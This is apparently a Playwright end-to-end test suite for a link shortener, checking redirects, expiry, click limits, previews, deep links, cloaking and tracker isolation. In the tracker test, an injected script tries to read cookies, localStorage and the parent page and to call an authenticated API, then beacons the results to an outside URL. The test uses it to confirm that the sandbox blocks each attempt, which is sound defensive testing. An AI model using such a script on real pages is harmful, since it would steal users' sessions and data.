import { expect, test } from '../support/test.ts';
import { userAgents } from '../support/user-agents.ts';

test('phones, tablets and computers are led to their own addresses', async ({ api, linkway, anotherBrowser }) => {
  await api.register();
  const targets = Object.fromEntries(
    Object.keys(userAgents).map((device) => [device, `${linkway.destination}/${device}`]),
  );
  const link = await api.createLink({ url: `${linkway.destination}/any`, device_targeting: targets });
  for (const [device, userAgent] of Object.entries(userAgents)) {
    const page = await (await anotherBrowser({ userAgent })).newPage();
    await page.goto(link.short_url);
    await expect(page.getByRole('heading')).toHaveText(`Arrived at /${device}`);
  }
  const only = await api.createLink({
    url: `${linkway.destination}/any`,
    device_targeting: { tablet: targets.tablet },
  });
  const page = await (await anotherBrowser({ userAgent: userAgents.mobile })).newPage();
  await page.goto(only.short_url);
  await expect(page.getByRole('heading')).toHaveText('Arrived at /any');
});

test('a link works for as many clicks as it was given', async ({ api, page, linkway, watch }) => {
  watch.expect(/status of 410/);
  await api.register();
  const link = await api.createLink({ url: `${linkway.destination}/capped`, max_clicks: 2 });
  for (const _ of [1, 2]) {
    await page.goto(link.short_url);
    await expect(page.getByRole('heading')).toHaveText('Arrived at /capped');
  }
  await page.goto(link.short_url);
  await expect(page.getByRole('heading')).toHaveText('Oops!');
  await expect(page.getByText('This link has reached its click limit')).toBeVisible();
  await page.getByRole('link', { name: 'Go home' }).click();
  await expect(page).toHaveURL(`${linkway.web}/`);
});

test('an expired link says so', async ({ api, page, linkway, watch }) => {
  watch.expect(/status of 410/);
  await api.register();
  const ends = new Date(Date.now() + 2_000).toISOString();
  const link = await api.createLink({ url: `${linkway.destination}/soon-gone`, expires_at: ends });
  await expect.poll(async () => (await page.goto(link.short_url))?.status(), { timeout: 10_000 }).toBe(410);
  await expect(page.getByText('This link has expired')).toBeVisible();
});

test('a pause and an edit take effect in under a second', async ({ api, page, request, linkway, watch }) => {
  watch.expect(/status of 404/);
  await api.register();
  const link = await api.createLink({ url: `${linkway.destination}/before` });
  const location = async () => (await request.get(link.short_url, { maxRedirects: 0 })).headers().location;
  await expect.poll(location).toBe(`${linkway.destination}/before`);
  await api.ok('PUT', `/api/links/${link.id}`, { url: `${linkway.destination}/after` });
  await expect.poll(location, { timeout: 1_000, intervals: [50] }).toBe(`${linkway.destination}/after`);
  await api.ok('PUT', `/api/links/${link.id}`, { is_active: false });
  await expect.poll(location, { timeout: 1_000, intervals: [50] }).toBeUndefined();
  await page.goto(link.short_url);
  await expect(page.getByText('The owner of this link has paused it.')).toBeVisible();
});

test('an unknown code has a page in the visitor’s language', async ({ page, watch }) => {
  watch.expect(/status of 404/);
  await page.goto('/zzzzzz');
  await expect(page.getByRole('heading')).toHaveText('Oops!');
  await expect(page.getByText('This link does not exist or has expired')).toBeVisible();
  await page.getByRole('link', { name: 'Tiếng Việt' }).click();
  await expect(page.getByText('Liên kết này không tồn tại hoặc đã hết hạn.')).toBeVisible();
  await page.goto('/yyyyyy');
  await expect(page.getByRole('link', { name: 'Về trang chủ' })).toBeVisible();
});

test('a link opens on its own domain only', async ({ api, request, linkway }) => {
  await api.register();
  const link = await api.createLink({ url: `${linkway.destination}/bound` });
  for (const address of [linkway.web, linkway.redirect]) {
    const answer = await request.get(`${address}/${link.short_code}`, {
      headers: { host: 'other.example.com', 'accept-language': 'en' },
      maxRedirects: 0,
    });
    expect(answer.status()).toBe(403);
    expect(await answer.text()).toContain(`This link only works on domain ${new URL(linkway.web).host}`);
  }
});

test('who adds a plus to a link is told where it leads, without a visit', async ({ api, page, linkway }) => {
  await api.register();
  const url = `${linkway.destination}/told`;
  const { short_url } = await api.createLink({ url, max_clicks: 1 });
  await page.goto(`${short_url}+`);
  await expect(page.getByRole('heading')).toHaveText('Where this link leads');
  await expect(page.getByText(url, { exact: true })).toBeVisible();
  await page.getByRole('link', { name: 'Tiếng Việt' }).click();
  await expect(page.getByText(`Liên kết này dẫn đến ${new URL(url).host}.`)).toBeVisible();
  await page.getByRole('link', { name: 'Đi tiếp' }).click();
  await expect(page.getByRole('heading')).toHaveText('Arrived at /told');
  const locked = await api.createLink({ url, password: 'sesame' });
  await page.goto(`${locked.short_url}+`);
  await expect(page.getByText(/^Liên kết được bảo vệ/)).toBeVisible();
  await expect(page.getByText(url, { exact: true })).toHaveCount(0);
  await page.getByRole('link', { name: 'Đi tiếp' }).click();
  await expect(page.getByLabel('Mật khẩu')).toBeVisible();
});

test('a link opens an app on a phone, and leads on without it', async ({ api, linkway, anotherBrowser }) => {
  await api.register();
  const url = `${linkway.destination}/without-app`;
  const { short_url } = await api.createLink({
    url,
    hide_referrer: true,
    deep_links: { android: 'linkwaytest://page/1', ios: `${linkway.destination}/universal` },
  });
  const android =
    'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36';
  const phone = await (await anotherBrowser({ userAgent: android })).newPage();
  const asked: string[] = [];
  const session = await phone.context().newCDPSession(phone);
  await session.send('Page.enable');
  session.on('Page.frameRequestedNavigation', ({ url: to }) => asked.push(to));
  await phone.goto(short_url);
  await expect(phone.getByRole('heading')).toHaveText('Opening the app');
  await expect(phone.getByRole('heading')).toHaveText('Arrived at /without-app');
  await expect(phone.getByText('From nowhere')).toBeVisible();
  expect(asked).toEqual(['linkwaytest://page/1', url]);
  const other = await (await anotherBrowser({ userAgent: userAgents.mobile })).newPage();
  await other.goto(short_url);
  await expect(other.getByRole('heading')).toHaveText('Arrived at /universal');
});

test('trackers of a link count a visit, and reach nothing of the web app', async ({ api, page, linkway, watch }) => {
  watch.expect(/Content Security Policy|sandboxed|ERR_/);
  await api.register();
  await page.goto(linkway.web);
  const trackers = {
    google_analytics: 'G-ABC1234567',
    facebook_pixel: '123456789012345',
    tiktok_pixel: 'C4ABCDEFGHIJKLMNOPQ0',
    custom: 'https://pixel.example.com/a.gif',
  };
  const { short_url } = await api.createLink({ url: `${linkway.destination}/tracked`, countdown_seconds: 4, trackers });
  const asked: string[] = [];
  // What a tracker's script would try, told by the title that only the frame of its own can have.
  const curious = `(async () => {
    const tried = async (work) => { try { return String(await work()); } catch (error) { return error.name; } };
    const found = [await tried(() => document.cookie), await tried(() => parent.document.title), await tried(() => localStorage.length), await tried(async () => (await fetch('${linkway.web}/api/me', { credentials: 'include' })).status), self.origin];
    new Image().src = 'https://www.facebook.com/found?' + encodeURIComponent(JSON.stringify(found));
  })()`;
  await page.route(/^https:/, (route) => {
    asked.push(route.request().url());
    return /gtag/.test(route.request().url())
      ? route.fulfill({ contentType: 'text/javascript', body: curious })
      : route.fulfill({ status: 204 });
  });
  await page.goto(short_url);
  await expect.poll(() => asked.find((url) => url.includes('/found?'))).toBeDefined();
  const found = asked.find((url) => url.includes('/found?')) ?? '';
  expect(JSON.parse(decodeURIComponent(new URL(found).search.slice(1)))).toEqual([
    'SecurityError',
    'SecurityError',
    'SecurityError',
    'TypeError',
    'null',
  ]);
  const hosts = new Set(asked.map((url) => new URL(url).host));
  expect([...hosts].sort()).toEqual([
    'analytics.tiktok.com',
    'pixel.example.com',
    'www.facebook.com',
    'www.googletagmanager.com',
  ]);
  await expect(page.getByRole('heading')).toHaveText('Arrived at /tracked');
});

test('a cloaked link stays in the address bar, and leads to the page itself', async ({ api, page, linkway, watch }) => {
  watch.expect(/Unsafe attempt to initiate navigation|allow-top-navigation/);
  await api.register();
  const url = `${linkway.destination}/framed`;
  const { short_url } = await api.createLink({ url, is_cloaked: true, custom_preview: { title: 'Ours' } });
  await page.goto(short_url);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByRole('heading')).toHaveText('Arrived at /framed');
  await expect(page).toHaveTitle('Ours');
  expect(page.url()).toBe(short_url);
  // What is framed cannot lead the tab elsewhere.
  const refused = await frame.locator('body').evaluate(() => {
    try {
      window.top?.location.assign('https://example.com/');
      return 'allowed';
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(refused).toBe('SecurityError');
  expect(page.url()).toBe(short_url);
  await page.getByRole('link', { name: 'Open the page itself' }).click();
  await expect(page).toHaveURL(url);
  await expect(page.getByRole('heading')).toHaveText('Arrived at /framed');
});

test('a link passes on what its owner wants, and hides where its visitors come from', async ({
  api,
  page,
  linkway,
}) => {
  await api.register();
  const url = `${linkway.destination}/page?x=own`;
  const visit = async (more: object) => {
    const { short_url } = await api.createLink({ url, ...more });
    await page.goto(linkway.web);
    await page.evaluate((address) => {
      location.href = address;
    }, `${short_url}?x=1&y=2`);
    await expect(page.getByRole('heading')).toHaveText('Arrived at /page');
    return [new URL(page.url()).search, await page.getByText(/^From/).textContent()];
  };
  expect(await visit({})).toEqual(['?x=own', `From ${linkway.web}/`]);
  expect(await visit({ hide_referrer: true, query_passing: 'append' })).toEqual(['?x=own&y=2', 'From nowhere']);
  expect(await visit({ query_passing: 'replace' })).toEqual(['?x=1&y=2', `From ${linkway.web}/`]);
});

test('a link lets people wait, and leads on by itself', async ({ api, page, linkway }) => {
  await api.register();
  const url = `${linkway.destination}/waited`;
  const { short_url } = await api.createLink({
    url,
    countdown_seconds: 3,
    hide_referrer: true,
    query_passing: 'append',
  });
  await page.goto(`${short_url}?ref=mail`);
  await expect(page.getByRole('heading', { name: 'One moment' })).toBeVisible();
  await expect(page.getByText(`You are being led to ${new URL(url).host} in 3 s.`)).toBeVisible();
  await expect(page.getByRole('heading')).toHaveText('Arrived at /waited', { timeout: 15_000 });
  expect(new URL(page.url()).search).toBe('?ref=mail');
  await expect(page.getByText('From nowhere')).toBeVisible();
  await page.goto(short_url);
  await page.getByRole('link', { name: 'Go on now' }).click();
  await expect(page.getByRole('heading')).toHaveText('Arrived at /waited');
});
